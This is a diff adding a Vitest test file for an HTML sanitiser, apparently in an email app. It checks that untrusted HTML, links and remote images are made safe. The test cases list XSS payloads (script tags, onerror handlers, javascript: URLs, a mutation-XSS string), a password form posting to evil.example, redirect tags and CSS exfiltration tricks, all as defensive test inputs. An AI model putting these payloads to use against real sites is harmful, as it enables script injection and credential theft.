@@ -1,0 +1,119 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from 'vitest'
+import { sanitiseHtml } from '@core/html/sanitise'
+import { escapeHtml, textOf } from '@core/html/textOf'
+
+function parsed(html: string, options = {}) {
+  const box = document.createElement('div')
+  box.innerHTML = sanitiseHtml(html, options).html
+  return box
+}
+
+describe('what others wrote', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<a href=" java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+    '<style>body { display: none }</style>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<object data="x.swf"></object><embed src="x.swf">',
+    '<video src="https://evil.example/v.mp4" autoplay></video>',
+    '<p onmouseover="alert(1)" class="modal" id="root" name="body">x</p>',
+    '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
+    '<a ping="https://evil.example" href="https://fine.example">x</a>',
+  ])('runs and asks nothing: %s', (html) => {
+    const content = parsed(html)
+    expect(
+      content.querySelector(
+        'script, style, svg, math, iframe, form, input, button, link, meta, base, object, embed, video',
+      ),
+    ).toBeNull()
+    for (const element of content.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^(class|id|name|background|ping|srcdoc)$/)
+        expect(value).not.toMatch(/script:|data:text|evil/)
+      }
+    }
+  })
+
+  it.each([
+    'position: fixed; inset: 0',
+    'position: absolute; top: 0; z-index: 99999',
+    'background: url(https://evil.example/x.png)',
+    'background-image: u\\72l(https://evil.example/x.png)',
+    'list-style-image: url(//evil.example)',
+    'margin-top: -9999px',
+    'width: 100vw; height: 100vh',
+    'transform: scale(100)',
+    'cursor: url(https://evil.example/c.cur), auto',
+    'color: var(--ld-canvas)',
+    'opacity: 0; filter: blur(9px); pointer-events: none',
+  ])('cannot leave its place: %s', (style) => {
+    const left = parsed(`<div style="${style}">x</div>`).firstElementChild?.getAttribute('style') ?? ''
+    expect(left).toMatch(/^(background-color: transparent)?$/)
+  })
+
+  it('keeps its text, its structure and its own look', () => {
+    const content = parsed(
+      '<h1 style="color: red; position: fixed">Hi</h1><ul><li><b>One</b></li></ul><table width="600"><tr><td colspan="2">x</td></tr></table>',
+    )
+    expect(content.querySelector('h1')).toHaveAttribute('style', 'color: red')
+    expect(content.querySelector('li b')).toHaveTextContent('One')
+    expect(content.querySelector('td')).toHaveAttribute('colspan', '2')
+  })
+})
+
+describe('links', () => {
+  it('open in a tab of their own, which knows nothing of this one', () => {
+    for (const href of ['https://fine.example/a', 'mailto:amara@example.com', 'tel:+233']) {
+      const link = parsed(`<a href="${href}" target="_top">x</a>`).querySelector('a')
+      expect(link).toHaveAttribute('href', href)
+      expect(link).toHaveAttribute('target', '_blank')
+      expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')
+    }
+  })
+
+  it('within the product stay in the tab, and those that only look like it go nowhere', () => {
+    expect(parsed('<a href="/apps/email">x</a>').querySelector('a')).toHaveAttribute('href', '/apps/email')
+    for (const href of ['//evil.example', '/\\evil.example', 'evil.example']) {
+      expect(parsed(`<a href="${href}">x</a>`).querySelector('a')).not.toHaveAttribute('href')
+    }
+  })
+})
+
+describe('pictures', () => {
+  const html =
+    '<img src="https://pixel.example/o.gif"><img src="//pixel.example/o.gif"><img srcset="https://pixel.example/o.gif 2x"><img src="data:image/png;base64,AA==" alt="Logo"><img src="/images/a.svg">'
+
+  it('of other servers stay out and are counted, those that came along are shown', () => {
+    const safe = sanitiseHtml(html)
+    expect(safe.blockedPictures).toBe(2)
+    expect(safe.html).not.toContain('pixel.example')
+    expect([...parsed(html).querySelectorAll('img[src]')]).toHaveLength(2)
+  })
+
+  it('are fetched when asked for, without saying from where', () => {
+    const picture = parsed(html, { remotePictures: true }).querySelector('img')
+    expect(picture).toHaveAttribute('src', 'https://pixel.example/o.gif')
+    expect(picture).toHaveAttribute('referrerpolicy', 'no-referrer')
+    expect(sanitiseHtml(html, { remotePictures: true }).blockedPictures).toBe(0)
+  })
+})
+
+describe('the text of HTML', () => {
+  it('is what one reads, with the words of paragraphs apart', () => {
+    expect(textOf('<style>p{}</style><p>One &amp; two</p><p>three<script>x</script></p>')).toBe('One & two three')
+  })
+
+  it('becomes HTML that shows the same', () => {
+    expect(textOf(escapeHtml('<b>"5 & 6"</b>'))).toBe('<b>"5 & 6"</b>')
+  })
+})
